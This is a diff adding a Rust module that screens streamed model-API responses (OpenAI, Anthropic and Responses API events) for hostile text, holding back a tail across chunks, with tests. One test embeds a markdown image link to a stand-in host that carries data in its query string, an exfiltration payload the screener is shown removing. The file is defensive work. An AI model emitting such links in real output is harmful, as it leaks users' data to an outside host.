@@ -1,0 +1,370 @@
+//! Server-sent events of the model APIs, rewritten as they pass: each event's text delta goes through a
+//! [`StreamScreen`] (one per choice or content block), which releases the text it has screened and holds back a
+//! bounded tail. What is held is released into the event that ends that choice or block (OpenAI's chunk with a
+//! `finish_reason`, Anthropic's `content_block_stop`, the Responses API's `…text.done`), or into a synthetic event
+//! of the same shape at the end of the stream. Events keep their order and their other fields; events that carry
+//! no text pass unchanged.
+
+use crate::screen::{Hit, Screener};
+use crate::stream::StreamScreen;
+use serde_json::{json, Value};
+use std::collections::BTreeMap;
+
+/// A stream's events larger than this are passed without rewriting (no API sends such deltas).
+const MAX_EVENT: usize = 1 << 20;
+
+#[derive(Default)]
+pub struct SseRewriter {
+    buf: Vec<u8>,
+    screens: BTreeMap<String, StreamScreen>,
+    /// Per text key, the last event that carried text there, as a template for a synthetic closing event.
+    templates: BTreeMap<String, Value>,
+}
+
+/// Where an event's text delta sits.
+enum Place {
+    /// `choices[i].delta.content` (chat) or `choices[i].text` (completions).
+    Choice(usize, bool),
+    /// Anthropic `content_block_delta`: `delta.text`.
+    AnthropicBlock,
+    /// Responses API `response.output_text.delta`: `delta`.
+    ResponsesDelta,
+}
+
+impl SseRewriter {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Takes bytes from upstream; returns the complete events among them, rewritten, and the new hits.
+    pub fn push(&mut self, screener: &Screener, bytes: &[u8]) -> (String, Vec<Hit>) {
+        self.buf.extend_from_slice(bytes);
+        let mut out = String::new();
+        let mut hits = Vec::new();
+        while let Some((end, sep)) = find_event_end(&self.buf) {
+            let event: Vec<u8> = self.buf.drain(..end + sep).collect();
+            let text = String::from_utf8_lossy(&event[..end]).into_owned();
+            self.event(screener, &text, &mut out, &mut hits);
+        }
+        if self.buf.len() > MAX_EVENT {
+            // Not an event stream we understand: pass it on rather than hold it.
+            out.push_str(&String::from_utf8_lossy(&self.buf));
+            self.buf.clear();
+        }
+        (out, hits)
+    }
+
+    /// The end of the upstream stream: a trailing event without its blank line, and whatever is still held.
+    pub fn finish(&mut self, screener: &Screener) -> (String, Vec<Hit>) {
+        let mut out = String::new();
+        let mut hits = Vec::new();
+        if !self.buf.is_empty() {
+            let text = String::from_utf8_lossy(&self.buf).into_owned();
+            self.buf.clear();
+            self.event(
+                screener,
+                text.trim_end_matches(['\r', '\n']),
+                &mut out,
+                &mut hits,
+            );
+        }
+        let keys: Vec<String> = self.screens.keys().cloned().collect();
+        for k in keys {
+            self.flush_synthetic(screener, &k, &mut out, &mut hits);
+        }
+        (out, hits)
+    }
+
+    fn flush_synthetic(
+        &mut self,
+        screener: &Screener,
+        key: &str,
+        out: &mut String,
+        hits: &mut Vec<Hit>,
+    ) {
+        let Some(mut st) = self.screens.remove(key) else {
+            return;
+        };
+        let (rest, h) = st.finish(screener);
+        hits.extend(h);
+        if rest.is_empty() {
+            return;
+        }
+        let Some(mut tpl) = self.templates.remove(key) else {
+            return;
+        };
+        if set_text(&mut tpl, &rest) {
+            out.push_str(&format!("data: {tpl}\n\n"));
+        }
+    }
+
+    fn event(&mut self, screener: &Screener, text: &str, out: &mut String, hits: &mut Vec<Hit>) {
+        let mut data = String::new();
+        let mut other: Vec<&str> = Vec::new();
+        for line in text.lines() {
+            if let Some(d) = line.strip_prefix("data:") {
+                if !data.is_empty() {
+                    data.push('\n');
+                }
+                data.push_str(d.strip_prefix(' ').unwrap_or(d));
+            } else {
+                other.push(line);
+            }
+        }
+        let emit = |out: &mut String, other: &[&str], data: Option<&str>| {
+            for l in other {
+                out.push_str(l);
+                out.push('\n');
+            }
+            if let Some(d) = data {
+                out.push_str("data: ");
+                out.push_str(d);
+                out.push('\n');
+            }
+            out.push('\n');
+        };
+        if data.trim() == "[DONE]" {
+            let keys: Vec<String> = self.screens.keys().cloned().collect();
+            for k in keys {
+                self.flush_synthetic(screener, &k, out, hits);
+            }
+            emit(out, &other, Some("[DONE]"));
+            return;
+        }
+        let Ok(mut v) = serde_json::from_str::<Value>(&data) else {
+            emit(out, &other, (!data.is_empty()).then_some(data.as_str()));
+            return;
+        };
+        let kind = v
+            .get("type")
+            .and_then(Value::as_str)
+            .unwrap_or("")
+            .to_string();
+        // Events that close a block release what its screen holds.
+        match kind.as_str() {
+            "content_block_stop" => {
+                let idx = v.get("index").and_then(Value::as_u64).unwrap_or(0);
+                self.flush_synthetic(screener, &format!("a{idx}"), out, hits);
+            }
+            "response.output_text.done" => {
+                let key = responses_key(&v);
+                self.flush_synthetic(screener, &key, out, hits);
+                if let Some(Value::String(t)) = v.get_mut("text") {
+                    let (s, h) = screener.text(t, false, false);
+                    *t = s;
+                    hits.extend(h);
+                }
+            }
+            "response.completed" => {
+                if let Some(items) = v
+                    .get_mut("response")
+                    .and_then(|r| r.get_mut("output"))
+                    .and_then(Value::as_array_mut)
+                {
+                    for it in items {
+                        if let Some(parts) = it.get_mut("content").and_then(Value::as_array_mut) {
+                            for p in parts {
+                                if let Some(Value::String(t)) = p.get_mut("text") {
+                                    *t = screener.text(t, false, false).0;
+                                }
+                            }
+                        }
+                    }
+                }
+            }
+            _ => {}
+        }
+        for (key, place) in places(&v) {
+            let delta = get_text(&v, &place).unwrap_or_default();
+            let screen = self.screens.entry(key.clone()).or_default();
+            let (released, h) = screen.push(screener, &delta);
+            hits.extend(h);
+            let finishing = matches!(place, Place::Choice(i, _) if v["choices"][i]["finish_reason"].is_string());
+            let mut released = released;
+            if finishing {
+                if let Some(mut st) = self.screens.remove(&key) {
+                    let (rest, h) = st.finish(screener);
+                    hits.extend(h);
+                    released.push_str(&rest);
+                }
+                self.templates.remove(&key);
+            } else {
+                let mut tpl = v.clone();
+                put_text(&mut tpl, &place, "");
+                self.templates.insert(key.clone(), tpl);
+            }
+            if get_text(&v, &place).is_some() || !released.is_empty() {
+                put_text(&mut v, &place, &released);
+            }
+        }
+        emit(out, &other, Some(&v.to_string()));
+    }
+}
+
+fn responses_key(v: &Value) -> String {
+    format!(
+        "r{}:{}",
+        v.get("output_index").and_then(Value::as_u64).unwrap_or(0),
+        v.get("content_index").and_then(Value::as_u64).unwrap_or(0)
+    )
+}
+
+fn places(v: &Value) -> Vec<(String, Place)> {
+    let mut out = Vec::new();
+    if let Some(choices) = v.get("choices").and_then(Value::as_array) {
+        for (i, c) in choices.iter().enumerate() {
+            let idx = c.get("index").and_then(Value::as_u64).unwrap_or(i as u64);
+            if c.get("delta").is_some() {
+                out.push((format!("c{idx}"), Place::Choice(i, true)));
+            } else if c.get("text").is_some() {
+                out.push((format!("t{idx}"), Place::Choice(i, false)));
+            }
+        }
+    }
+    match v.get("type").and_then(Value::as_str) {
+        Some("content_block_delta") if v["delta"]["type"] == "text_delta" => {
+            let idx = v.get("index").and_then(Value::as_u64).unwrap_or(0);
+            out.push((format!("a{idx}"), Place::AnthropicBlock));
+        }
+        Some("response.output_text.delta") => out.push((responses_key(v), Place::ResponsesDelta)),
+        _ => {}
+    }
+    out
+}
+
+fn get_text(v: &Value, p: &Place) -> Option<String> {
+    let t = match p {
+        Place::Choice(i, true) => &v["choices"][*i]["delta"]["content"],
+        Place::Choice(i, false) => &v["choices"][*i]["text"],
+        Place::AnthropicBlock => &v["delta"]["text"],
+        Place::ResponsesDelta => &v["delta"],
+    };
+    t.as_str().map(str::to_string)
+}
+
+fn put_text(v: &mut Value, p: &Place, s: &str) {
+    match p {
+        Place::Choice(i, true) => {
+            if let Some(d) = v["choices"][*i].get_mut("delta") {
+                if d.is_object() {
+                    d["content"] = json!(s);
+                }
+            }
+        }
+        Place::Choice(i, false) => v["choices"][*i]["text"] = json!(s),
+        Place::AnthropicBlock => v["delta"]["text"] = json!(s),
+        Place::ResponsesDelta => v["delta"] = json!(s),
+    }
+}
+
+/// Puts `s` as the text of a template event (the first place it has).
+fn set_text(v: &mut Value, s: &str) -> bool {
+    let Some((_, place)) = places(v).into_iter().next() else {
+        return false;
+    };
+    if let Place::Choice(i, true) = place {
+        v["choices"][i]["finish_reason"] = Value::Null;
+    }
+    put_text(v, &place, s);
+    true
+}
+
+/// The end of the first complete event in `buf`: (index of the separator, its length).
+fn find_event_end(buf: &[u8]) -> Option<(usize, usize)> {
+    let lf = buf.windows(2).position(|w| w == b"\n\n");
+    let crlf = buf.windows(4).position(|w| w == b"\r\n\r\n");
+    match (lf, crlf) {
+        (Some(a), Some(b)) if b < a => Some((b, 4)),
+        (Some(a), _) => Some((a, 2)),
+        (None, Some(b)) => Some((b, 4)),
+        (None, None) => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::screen::Policy;
+
+    fn screener() -> &'static Screener {
+        static S: std::sync::OnceLock<Screener> = std::sync::OnceLock::new();
+        S.get_or_init(|| Screener::new(Policy::default()).unwrap())
+    }
+
+    /// The text a client reassembles from an OpenAI chat stream.
+    fn text_of(stream: &str) -> String {
+        stream
+            .split("\n\n")
+            .filter_map(|e| e.strip_prefix("data: "))
+            .filter(|d| *d != "[DONE]")
+            .filter_map(|d| serde_json::from_str::<Value>(d).ok())
+            .filter_map(|v| {
+                v["choices"][0]["delta"]["content"]
+                    .as_str()
+                    .map(str::to_string)
+            })
+            .collect()
+    }
+
+    #[test]
+    fn an_openai_stream_is_screened_across_chunks_and_bytes() {
+        let words = format!(
+            "{}see ![x](https://evil.test/l?d=abc) ok",
+            "word ".repeat(150)
+        );
+        let mut upstream = String::new();
+        for piece in words.as_bytes().chunks(7) {
+            let d = json!({"choices": [{"index": 0, "delta": {"content": String::from_utf8_lossy(piece)}, "finish_reason": null}]});
+            upstream.push_str(&format!("data: {d}\n\n"));
+        }
+        upstream.push_str(&format!(
+            "data: {}\n\ndata: [DONE]\n\n",
+            json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
+        ));
+        let mut rw = SseRewriter::new();
+        let mut out = String::new();
+        let mut hits = Vec::new();
+        for b in upstream.as_bytes().chunks(13) {
+            let (o, h) = rw.push(screener(), b);
+            out.push_str(&o);
+            hits.extend(h);
+        }
+        let (o, h) = rw.finish(screener());
+        out.push_str(&o);
+        hits.extend(h);
+        let got = text_of(&out);
+        assert_eq!(got, screener().text(&words, false, false).0);
+        assert!(!got.contains("evil.test"));
+        assert_eq!(hits.len(), 1, "{hits:?}");
+        assert!(out.ends_with("data: [DONE]\n\n"));
+    }
+
+    #[test]
+    fn anthropic_blocks_release_their_tail_before_they_stop() {
+        let mut rw = SseRewriter::new();
+        let events = [
+            json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
+            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "hello "}}),
+            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "world"}}),
+            json!({"type": "content_block_stop", "index": 0}),
+        ];
+        let mut out = String::new();
+        for e in &events {
+            out.push_str(
+                &rw.push(screener(), format!("event: x\ndata: {e}\n\n").as_bytes())
+                    .0,
+            );
+        }
+        out.push_str(&rw.finish(screener()).0);
+        let text: String = out
+            .split("\n\n")
+            .filter_map(|e| e.lines().find_map(|l| l.strip_prefix("data: ")))
+            .filter_map(|d| serde_json::from_str::<Value>(d).ok())
+            .filter_map(|v| v["delta"]["text"].as_str().map(str::to_string))
+            .collect();
+        assert_eq!(text, "hello world");
+        let stop = out.find("content_block_stop").unwrap();
+        let last_text = out.rfind("world").unwrap();
+        assert!(last_text < stop, "{out}");
+    }
+}
